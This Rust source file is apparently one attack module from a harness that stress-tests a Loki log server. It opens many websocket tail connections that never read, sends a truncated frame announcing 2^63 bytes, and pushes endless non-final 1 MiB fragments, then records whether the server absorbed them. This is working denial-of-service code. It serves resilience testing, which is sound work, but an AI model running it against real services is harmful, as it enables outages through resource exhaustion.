//! Websockets that follow everything and never read while much is pushed, and some that send an endless
//! message.

use std::io::Write;
use std::net::TcpStream;
use std::thread;

use anyhow::Result;

use super::Attack;
use crate::ground::Ground;
use crate::raw;

/// This attack.
pub static ATTACK: Attack =
    Attack { name: "followers", about: "tails that never read, and messages that never end", run };

fn run(ground: &Ground<'_>) -> Result<()> {
    let (mut held, mut endless) = (Vec::new(), Vec::new());
    let path = "/loki/api/v1/tail?query=%7Bjob%3D~%22.%2B%22%7D&limit=5000";
    let headers = [
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "c2FuZHVyLWF0dGFjayAxMg=="),
    ];
    for n in 0..ground.pick(20, 100) {
        let Ok(mut stream) = ground.connect() else { continue };
        if stream.write_all(raw::head("GET", path, &headers, 0).as_bytes()).is_err() {
            continue;
        }
        if n % 4 == 0 {
            // A masked frame that announces 2^63 bytes and is cut off.
            let _ =
                stream.write_all(&[0x82, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 1, 2, 3, 4]);
        } else if n % 4 == 1 {
            endless.push(stream);
            continue;
        }
        held.push(stream);
    }
    // Concurrently: the server may be sending to each of them, and waits for slow readers for a while.
    thread::scope(|scope| {
        for stream in &mut endless {
            scope.spawn(|| send_without_end(ground, stream));
        }
    });
    let line = "0123456789".repeat(200);
    for _ in 0..ground.pick(8, 200) {
        ground.store_lines("followed", &vec![line.clone(); 500]);
    }
    Ok(())
}

/// Sends a message in fragments, none of which is the last, until the server closes the connection.
fn send_without_end(ground: &Ground<'_>, stream: &mut TcpStream) {
    const FRAGMENT: usize = 1 << 20;
    let fragments = ground.pick(8, 63);
    for number in 0..fragments {
        let kind = if number == 0 { 2 } else { 0 };
        let length = (FRAGMENT as u64).to_be_bytes();
        let frame = [&[kind, 0x80 | 127][..], &length, &[0; 4], &vec![b'x'; FRAGMENT]].concat();
        if stream.write_all(&frame).is_err() {
            return;
        }
    }
    ground
        .tally
        .finding(format!("a follower sent a message of {fragments} MiB, and the server read all of it"));
}
